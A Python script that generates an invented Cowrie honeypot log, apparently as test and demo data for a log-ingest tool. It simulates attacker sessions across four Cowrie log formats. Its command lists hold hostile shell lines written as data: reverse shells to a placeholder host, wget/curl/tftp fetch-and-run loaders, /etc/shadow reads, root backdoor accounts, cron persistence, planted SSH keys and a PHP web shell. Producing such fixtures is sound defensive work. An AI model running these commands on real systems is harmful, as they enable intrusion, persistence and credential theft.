#!/usr/bin/env python3
"""Writes tests/samples/cowrie.jsonl.gz: an invented Cowrie log for the demo and the tests.

    make_sample.py [OUTPUT]

Everything in it is made up: addresses are from the documentation ranges, names, keys, passwords and files exist nowhere.
It has four sensors whose lines are as four generations of Cowrie write them, every event that the ingest knows, and
commands of the kinds that attackers send. The same script always writes the same lines."""
import base64
import datetime
import gzip
import hashlib
import json
import sys
from pathlib import Path

START = datetime.datetime(2026, 5, 10, 6, 0, 0, tzinfo=datetime.timezone.utc)
SPAN_S = 60 * 3600


class Dice:
    """Random numbers that no Python version changes: SHA-256 in counter mode."""

    def __init__(self, seed):
        self.seed, self.n = seed, 0

    def below(self, n):
        self.n += 1
        digest = hashlib.sha256(f"{self.seed}/{self.n}".encode()).digest()
        return int.from_bytes(digest[:8], "big") % n

    def pick(self, items):
        return items[self.below(len(items))]

    def chance(self, percent):
        return self.below(100) < percent

    def seconds(self, low_ms, high_ms):
        return (low_ms + self.below(high_ms - low_ms + 1)) / 1000 + self.below(1000) / 1e6

    def hex(self, digits):
        self.n += 1
        return hashlib.sha256(f"{self.seed}/hex/{self.n}".encode()).hexdigest()[:digits]


dice = Dice("decnet sample 1")


def sha256(text):
    return hashlib.sha256(text.encode()).hexdigest()


# --- sensors: name, address, generation of Cowrie ---

SENSORS = [
    {"name": "edge-01", "ip": "192.0.2.10", "gen": 2026},   # 3.0.12: ports on every event, escapes, milliseconds
    {"name": "edge-02", "ip": "192.0.2.11", "gen": 2025},   # 2.8: protocol on every event, durations as text
    {"name": "edge-03", "ip": "192.0.2.12", "gen": 2020},   # 2.1: b'' banners, protocol only on the connect
    {"name": "Attic_Box", "ip": "192.0.2.13", "gen": 2017}, # 1.2: `system`, log.open, algorithms with the banner
]

KEX_SETS = [
    ("SSH-2.0-Go", ["curve25519-sha256", "ecdh-sha2-nistp256", "ext-info-c"],
     ["aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com"], ["hmac-sha2-256-etm@openssh.com", "hmac-sha1"], ["none"]),
    ("SSH-2.0-libssh_0.11.1", ["curve25519-sha256", "diffie-hellman-group16-sha512"],
     ["aes256-gcm@openssh.com", "aes256-ctr"], ["hmac-sha2-256", "hmac-sha2-512"], ["none", "zlib@openssh.com"]),
    ("SSH-2.0-OpenSSH_9.6", ["sntrup761x25519-sha512@openssh.com", "curve25519-sha256"],
     ["chacha20-poly1305@openssh.com", "aes128-ctr"], ["umac-128-etm@openssh.com", "hmac-sha2-256"],
     ["none", "zlib@openssh.com"]),
    ("SSH-2.0-paramiko_3.4.0", ["curve25519-sha256@libssh.org", "diffie-hellman-group14-sha256"],
     ["aes128-ctr", "aes256-ctr"], ["hmac-sha2-256", "hmac-sha2-512"], ["none"]),
    ("SSH-2.0-PUTTY", ["diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha1"],
     ["aes256-ctr", "aes256-cbc"], ["hmac-sha1", "hmac-md5"], ["none", "zlib"]),
]

PASSWORDS = ["admin", "123456", "P@ssw0rd123", "root", "toor", "qwerty", "letmein", "changeme", "ubnt", "raspberry", "1q2w3e",
             "support", "oracle", "postgres", "test123", "", "caf\u00e9", "back\\slash", "summer2026"]
USERS = ["root", "root", "root", "admin", "ubuntu", "pi", "oracle", "postgres", "test", "git", "user", "support"]

# --- what attackers do ---

LOADER = "192.0.2.200"      # serves the botnet's files
DROPBOX = "files.bad-mirror.example"
BACK = "192.0.2.201"        # where shells call back to
AUTH_KEY = "ssh-rsa " + base64.b64encode(b"\0\0\0\x07ssh-rsa invented key of the sample botnet, not a number").decode()
STOLEN_KEY = "ssh-ed25519 " + base64.b64encode(b"\0\0\0\x0bssh-ed25519 another invented key").decode()

RECON = ["uname -a", "whoami", "id", "w", "cat /etc/os-release", "cat /etc/passwd", "cat /proc/cpuinfo | grep name | wc -l",
         "free -m", "df -h", "ps aux", "ip addr", "ifconfig", "netstat -an", "ss -tnp", "lsof -i", "last", "ls -la /root",
         "hostnamectl", "lsb_release", "route -n", "arp -a"]
DEEP = ["sudo -l", "sudo cat /etc/shadow", "head -1 /etc/shadow", "find / -perm -4000 -type f 2>/dev/null",
        "find /home -name id_rsa", "find / -name '*.pem'", "grep -v nologin /etc/passwd", "history -c", "unset HISTFILE",
        "export HISTFILE=/dev/null", "> ~/.bash_history", "crontab -e", "crontab -l", "useradd -o -u 0 -g 0 sysd",
        "adduser backdoor", "echo 'sysd:x:0:0::/root:/bin/sh' >> /etc/passwd",
        "echo '* * * * * root /var/tmp/.u' > /etc/cron.d/update", "nmap -sS 192.0.2.0/28", "masscan 192.0.2.0/24 -p22",
        "nc -zv 192.0.2.77 1-1024", "ldapsearch -x -b dc=corp,dc=example", "smbclient -L //192.0.2.77", "enum4linux -a 192.0.2.77",
        f"bash -i >& /dev/tcp/{BACK}/4444 0>&1", f"nc -e /bin/sh {BACK} 4445", "/bin/sh -c 'id'",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "perl -e 'exec \"/bin/sh\";'",
        "redis-cli -h 192.0.2.78 config set dir /root/.ssh", f"redis-cli -h 192.0.2.78 set k \"{AUTH_KEY}\"",
        "echo '<?php system($_GET[0]); ?>' > /var/www/html/x.php", "sudo su -", "ls /tmp", "exit"]
FUNNY = ["", "   ", "echo \u00fcml\u00e4ut", "printf 'a\\tb'", "cat <<'E'\nline one\nline two\nE", "caht /etc/passwd", "wgget x",
         "ssytemctl status"]


class Session:
    """Collects the events of one session in the form that its sensor's version writes."""

    def __init__(self, sensor, ip, protocol, start):
        self.sensor, self.ip, self.protocol = sensor, ip, protocol
        self.id, self.t, self.start = dice.hex(12), start, start
        self.src_port = 1024 + dice.below(60000)
        self.dst_port = 2222 if protocol == "ssh" else 2223
        self.lines = []

    def emit(self, eventid, message, **attributes):
        gen, event = self.sensor["gen"], {"eventid": "cowrie." + eventid, "session": self.id}
        event.update(attributes)
        event["src_ip"] = self.ip
        if gen == 2026:
            event.setdefault("src_port", self.src_port)
            event.setdefault("dst_ip", self.sensor["ip"])
            event.setdefault("dst_port", self.dst_port)
        if gen >= 2025 or (gen == 2020 and eventid == "session.connect"):
            event["protocol"] = self.protocol
        if gen >= 2025:
            event["uuid"] = "unknown"
        if gen == 2017:
            where = "HoneyPotSSHTransport" if self.protocol == "ssh" else "CowrieTelnetTransport"
            event["system"], event["isError"] = f"{where},{dice.below(900)},{self.ip}", 0
        event["message"], event["sensor"] = message, self.sensor["name"]
        when = START + datetime.timedelta(seconds=self.t)
        stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%f")
        event["timestamp"] = stamp + ("+0000" if gen == 2020 else "Z")
        self.lines.append((self.t, len(self.lines), json.dumps(event, separators=(",", ":"))))

    def wait(self, low_ms, high_ms):
        self.t += dice.seconds(low_ms, high_ms)

    def connect(self):
        self.emit("session.connect", f"New connection: {self.ip}:{self.src_port} [session: {self.id}]", src_port=self.src_port,
                  dst_ip=self.sensor["ip"], dst_port=self.dst_port)
        self.wait(20, 300)

    def client(self, kit):
        banner, kex, enc, mac, comp = kit
        lists = {"kexAlgs": kex, "keyAlgs": ["ssh-ed25519", "rsa-sha2-256"], "encCS": enc, "macCS": mac, "compCS": comp}
        gen = self.sensor["gen"]
        shown = f"b'{banner}'" if gen == 2020 else banner
        self.emit("client.version", f"Remote SSH version: {shown}", version=shown, **(lists if gen == 2017 else {}))
        self.wait(5, 60)
        if gen > 2017:
            algorithms = ";".join(",".join(x) for x in (kex, enc, mac, comp))
            hassh = hashlib.md5(algorithms.encode()).hexdigest()
            self.emit("client.kex", f"SSH client hassh fingerprint: {hassh}", hassh=hassh, hasshAlgorithms=algorithms,
                      langCS=[""], **lists)
            self.wait(5, 60)

    def escape(self, text):
        if self.sensor["gen"] < 2026:
            return text
        return "".join(chr(b) if 0x20 <= b <= 0x7e and b != 0x5c else "\\\\" if b == 0x5c else f"\\x{b:02x}"
                       for b in text.encode())

    def login(self, user, password, ok):
        shown = password
        if self.sensor["gen"] == 2020 and not password.isascii():
            shown = repr(password.encode())
        self.emit("login.success" if ok else "login.failed", f"login attempt [{user}] {'succeeded' if ok else 'failed'}",
                  username=self.escape(user), password=self.escape(shown))
        self.wait(200, 2500)

    def key_login(self, user, key, ok):
        kind, blob = key.split()
        digest = hashlib.md5(base64.b64decode(blob)).hexdigest()
        fingerprint = ":".join(digest[i:i + 2] for i in range(0, 32, 2))
        what = {"username": user, "fingerprint": fingerprint, "key": key, "type": kind}
        self.emit("client.fingerprint", f"public key attempt for user {user}", **what)
        self.wait(20, 200)
        self.emit("login.success" if ok else "login.failed", f"public key login attempt for [{user}]", **what)
        self.wait(100, 900)

    def shell(self):
        if self.sensor["gen"] == 2017:
            self.emit("log.open", "Opening TTY Log", ttylog=f"log/tty/{self.id}-0i.log")
        else:
            self.emit("session.params", [] if self.sensor["gen"] == 2020 else "", arch="linux-x64-lsb")
        self.wait(1, 30)

    def command(self, text, failed=None):
        self.emit("command.input", f"CMD: {text}", input=text)
        if failed:
            self.wait(1, 20)
            self.emit("command.failed", f"Command not found: {failed}", input=failed)
        elif self.sensor["gen"] == 2017 and text.strip():
            self.wait(1, 5)
            self.emit("command.success", f"Command found: {text}", input=text + " ")

    def download(self, url, content, path=None):
        digest = sha256(content)
        extra = {"url": url} if url else {}
        if path and self.sensor["gen"] > 2017:
            extra["destfile"] = path
        if self.sensor["gen"] > 2017:
            extra["duplicate"] = dice.chance(50)
        self.emit("session.file_download", f"Downloaded URL ({url})" if url else "Saved redir contents",
                  outfile=f"var/lib/cowrie/downloads/{digest}", shasum=digest, **extra)

    def fetch_failed(self, url):
        self.emit("session.file_download.failed", f"Attempt to download file(s) from URL ({url}) failed", url=url,
                  **({"error": "connection refused"} if self.sensor["gen"] == 2026 else {}))

    def upload(self, name, content, scp):
        digest = sha256(content)
        where = {"url": name, "destfile": f"/tmp/{name}", "duplicate": False} if scp else {"filename": name}
        self.emit("session.file_upload", f"Uploaded file {name}", outfile=f"var/lib/cowrie/downloads/{digest}", shasum=digest,
                  **where)

    def duration(self, seconds):
        gen = self.sensor["gen"]
        return ({"duration_ms": int(seconds * 1000)} if gen == 2026 else
                {"duration": f"{seconds:.1f}"} if gen == 2025 else {"duration": seconds})

    def end_shell(self, since):
        digest = sha256(self.id + "tty")
        gen = self.sensor["gen"]
        path = f"log/tty/{self.id}-0i.log" if gen == 2017 else f"var/lib/cowrie/tty/{digest}"
        self.emit("log.closed", "Closing TTY Log", ttylog=path, size=100 + dice.below(9000),
                  **({} if gen == 2017 else {"shasum": digest, "duplicate": False}), **self.duration(self.t - since))
        self.wait(1, 20)

    def close(self):
        self.emit("session.closed", "Connection lost", **self.duration(self.t - self.start))

    def forward(self, host, port, data):
        claimed = {"src_port": 1024 + dice.below(60000)} if self.sensor["gen"] < 2026 else {"orig_ip": "127.0.0.1",
                                                                                           "orig_port": dice.below(65000)}
        self.emit("direct-tcpip.request", f"direct-tcp connection request to {host}:{port}", dst_ip=host, dst_port=port,
                  **claimed)
        self.wait(10, 200)
        if self.sensor["gen"] >= 2025:
            if port == 443:
                self.emit("direct-tcpip.ja4", "JA4 fingerprint", dst_ip=host, dst_port=port,
                          ja4="t13d1516h2_" + sha256(data)[:12] + "_" + sha256("ja4")[:12])
            else:
                self.emit("direct-tcpip.ja4h", "JA4H fingerprint", dst_ip=host, dst_port=port,
                          ja4h="ge11nn020000_" + sha256(data)[:12] + "_000000000000_000000000000")
            self.wait(1, 20)
        self.emit("direct-tcpip.data", f"discarded direct-tcp forward request 0 to {host}:{port}", dst_ip=host, dst_port=port,
                  data=repr(data.encode()), id=0)
        self.wait(10, 300)


# --- kinds of visitors ---

def scanner(s):
    s.connect()
    if s.protocol == "ssh":
        if dice.chance(30):
            s.emit("client.version", "Remote SSH version", version=dice.pick(["\u0016\u0003\u0001\u0000", "GET / HTTP/1.1",
                                                                             "\u0003\u0000\u0000/*\u00e0"]))
        else:
            s.client(dice.pick(KEX_SETS))
    s.wait(100, 9000)
    s.close()


def guesser(s):
    s.connect()
    if s.protocol == "ssh":
        s.client(dice.pick(KEX_SETS))
    user = dice.pick(USERS)
    for _ in range(1 + dice.below(5)):
        s.login(user, dice.pick(PASSWORDS), False)
    if dice.chance(15):
        s.login(user, dice.pick(PASSWORDS), True)
    s.close()


def operator(s, commands=None):
    """A person or a script at a prompt."""
    s.connect()
    if s.protocol == "ssh":
        s.client(KEX_SETS[2] if commands else dice.pick(KEX_SETS))
    if dice.chance(40):
        s.login("root", dice.pick(PASSWORDS), False)
    s.login("root", dice.pick(PASSWORDS), True)
    since = s.t
    if s.protocol == "ssh" and s.sensor["gen"] != 2026:
        s.emit("client.size", "Terminal Size: 120 40", width=120, height=40)
        s.emit("client.var", "request_env: LANG=C.UTF-8", name="LANG", value="C.UTF-8")
    s.shell()
    n = 3 + dice.below(9)
    script = commands or [dice.pick(RECON) for _ in range(n // 2 + 1)] + [dice.pick(DEEP) for _ in range(n // 2)]
    for text in script:
        s.command(text)
        s.wait(700, 28000)
    if dice.chance(50):
        typo = dice.pick(FUNNY)
        s.command(typo, failed=typo if typo.strip() and "\n" not in typo and not typo.startswith(("echo", "printf")) else None)
        s.wait(400, 4000)
    s.end_shell(since)
    s.close()


def botnet(s):
    """Plants a key, drops a loader, cleans up: the same files and hosts from many addresses."""
    s.connect()
    if s.protocol == "ssh":
        s.client(KEX_SETS[0])
    s.login("root", dice.pick(["admin", "123456", "P@ssw0rd123"]), True)
    since = s.t
    s.shell()
    name = dice.pick(["x86", "arm7", "mips"])
    s.command("cd ~; rm -rf .ssh; mkdir .ssh; echo \"" + AUTH_KEY + "\" >> .ssh/authorized_keys; chmod -R go= ~/.ssh")
    s.wait(300, 900)
    s.download(None, "authorized_keys of the sample botnet", "/root/.ssh/authorized_keys")
    s.wait(300, 900)
    s.command(f"cd /tmp || cd /var/run; wget http://{LOADER}/bins/{name}; chmod 777 {name}; ./{name} ssh.sample")
    s.wait(500, 3000)
    if dice.chance(75):
        s.download(f"http://{LOADER}/bins/{name}", f"loader {name}", f"/tmp/{name}")
    else:
        s.fetch_failed(f"http://{LOADER}/bins/{name}")
        s.command(f"tftp -g -r {name} {LOADER}")
        s.wait(300, 900)
        s.emit("session.file_download", "TFTP failed", url=f"tftp://{LOADER}:69/{name}", outfile="", shasum="")
    s.wait(200, 900)
    s.command("uname -a; nproc; history -c")
    s.wait(200, 900)
    s.end_shell(since)
    s.close()


def miner(s):
    s.connect()
    s.client(KEX_SETS[1])
    s.login("root", "summer2026", True)
    since = s.t
    s.shell()
    for text in [f"curl -s -L https://{DROPBOX}/setup.sh -o /var/tmp/.s; bash /var/tmp/.s", "pkill -9 xmrig; nproc",
                 "echo '*/5 * * * * root /var/tmp/.s' > /etc/cron.d/sys", "ps aux | grep -v grep | grep miner"]:
        s.command(text)
        s.wait(200, 1500)
    s.download(f"https://{DROPBOX}/setup.sh", "setup script of the sample miner", "/var/tmp/.s")
    s.wait(100, 400)
    s.end_shell(since)
    s.close()


def worm(s):
    """A telnet bot that looks for busybox."""
    s.connect()
    s.login(dice.pick(["root", "admin", "support"]), dice.pick(["admin", "123456", "ubnt", ""]), True)
    since = s.t
    s.shell()
    tag = dice.pick(["KWORM", "SORA9"])
    for text in ["enable", "system", "shell", "sh"]:
        s.command(text, failed=text if text in ("enable", "system", "shell") else None)
        s.wait(50, 400)
    s.command(f"/bin/busybox {tag}", failed=f"{tag}: applet not found" if s.sensor["gen"] == 2017 else None)
    s.wait(50, 400)
    s.command(f"cat /proc/mounts; /bin/busybox {tag}")
    s.wait(50, 400)
    s.command(f"/bin/busybox tftp -g -l - -r k.sh {LOADER} > k; sh k")
    s.wait(300, 3000)
    s.end_shell(since)
    s.close()


def proxy(s):
    s.connect()
    s.client(KEX_SETS[3])
    s.login("admin", "admin", True)
    for _ in range(1 + dice.below(6)):
        port = dice.pick([80, 443])
        s.forward(dice.pick(["shop.example.org", "mail.example.net", "192.0.2.150", "2001:db8:ff::5"]), port,
                  dice.pick(["GET / HTTP/1.0\r\nHost: shop.example.org\r\n\r\n", "\u0016\u0003\u0001 hello"]))
    if s.sensor["gen"] >= 2025:
        s.emit("direct-tcpip.redirect", "redirected", new_ip="192.0.2.160", new_port=25)
        s.emit("direct-tcpip.tunnel", "tunnelled", new_ip="192.0.2.161", new_port=8080)
    s.close()


def smuggler(s):
    """Uploads tools over SFTP and SCP, comes in with a key."""
    s.connect()
    s.client(KEX_SETS[2])
    s.key_login("git", STOLEN_KEY, dice.chance(60))
    s.login("root", "letmein", True)
    s.upload("sshd", "a replaced sshd", False)
    s.wait(200, 900)
    s.upload("scan.tgz", "a scanner", True)
    s.wait(200, 900)
    s.upload("empty", "", False)
    since = s.t
    s.shell()
    s.command("mv sshd /usr/sbin/sshd; service ssh restart")
    s.wait(300, 2000)
    s.end_shell(since)
    s.close()


def thorough(s):
    """Runs programs that read what he types."""
    s.connect()
    s.client(KEX_SETS[2])
    s.login("root", "changeme", True)
    since = s.t
    s.shell()
    s.command("passwd")
    s.wait(500, 2000)
    s.emit("command.success", "INPUT (passwd)", input="n3w-pass", realm="passwd")
    s.wait(500, 2000)
    s.emit("command.input", "CMD: crontab", input="* * * * * /var/tmp/.u", realm="crontab")
    s.wait(500, 2000)
    s.emit("session.input", "INPUT (php)", input="<?php phpinfo(); ?>", realm="php")
    s.wait(500, 2000)
    s.emit("virustotal.scanfile", "VT: file found", sha256=sha256("loader x86"), positives="31", total="60")
    s.emit("urlhaus.lookup", "URLhaus lookup", url=f"http://{LOADER}/bins/x86", result="listed")
    s.end_shell(since)
    s.close()


def telnet_exploit(s):
    s.connect()
    s.emit("telnet.option", "option negotiation", option="NEW_ENVIRON", value="USER")
    s.wait(10, 90)
    s.emit("telnet.exploit_attempt", "exploit attempt", cve="CVE-0000-00000", payload="-f root")
    s.wait(10, 90)
    if dice.chance(50):
        s.emit("telnet.exploit_success", "exploit success", cve="CVE-0000-00000")
    s.emit("reversedns.connect", "reverse DNS", reversedns="host.example.net")
    s.emit("greynoise.result", "GreyNoise", classification="unknown")
    s.wait(100, 900)
    s.close()


def unfinished(s):
    """The connection is never reported closed."""
    s.connect()
    s.client(KEX_SETS[1])
    s.login("root", "toor", True)
    s.shell()
    s.command("uptime")
    s.wait(400, 900)
    s.command("cat /etc/issue")


# kind, sessions, addresses that share them, protocols, sensors (by index)
PLAN = [
    (scanner, 70, [f"198.51.100.{n}" for n in range(10, 60)] + ["2001:db8::a1", "2001:db8::a2"], "ssh telnet", (0, 1, 2, 3)),
    (guesser, 90, [f"203.0.113.{n}" for n in range(20, 60)] + ["2001:db8::b1"], "ssh ssh telnet", (0, 1, 2, 3)),
    (operator, 34, [f"198.51.100.{n}" for n in range(100, 112)] + ["2001:db8::c1"], "ssh", (0, 1, 2, 3)),
    (botnet, 36, [f"203.0.113.{n}" for n in range(100, 118)], "ssh", (0, 1, 2, 3)),
    (miner, 12, [f"198.51.100.{n}" for n in range(150, 156)], "ssh", (0, 1, 2)),
    (worm, 26, [f"203.0.113.{n}" for n in range(150, 166)] + ["2001:db8::d1"], "telnet", (0, 1, 3)),
    (proxy, 18, [f"198.51.100.{n}" for n in range(180, 188)], "ssh", (0, 1, 2, 3)),
    (smuggler, 6, [f"203.0.113.{n}" for n in range(200, 203)], "ssh", (0, 1, 2)),
    (thorough, 3, ["198.51.100.220"], "ssh", (0,)),
    (telnet_exploit, 4, ["203.0.113.220", "203.0.113.221"], "telnet", (0,)),
    (unfinished, 3, ["198.51.100.230"], "ssh", (0, 1, 2)),
]


def sessions():
    for kind, count, addresses, protocols, sensors in PLAN:
        for i in range(count):
            sensor = SENSORS[sensors[i % len(sensors)]]
            s = Session(sensor, dice.pick(addresses), dice.pick(protocols.split()), dice.below(SPAN_S * 1000) / 1000)
            kind(s)
            yield s
    for i in range(0, len(DEEP), 8):  # every command once, whatever the dice say
        s = Session(SENSORS[i // 8 % 3], "198.51.100.23", "ssh", 3600.0 * (i + 1))
        operator(s, RECON[i:i + 8] + DEEP[i:i + 8])
        yield s


def main():
    output = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent.parent / "tests/samples/cowrie.jsonl.gz")
    lines = sorted((t, n, i, line) for n, s in enumerate(sessions()) for t, i, line in s.lines)
    output.parent.mkdir(parents=True, exist_ok=True)
    with open(output, "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0) as packed:
        for *_, line in lines:
            packed.write(line.encode() + b"\n")
    print(f"{output}: {len(lines)} lines")


if __name__ == "__main__":
    main()
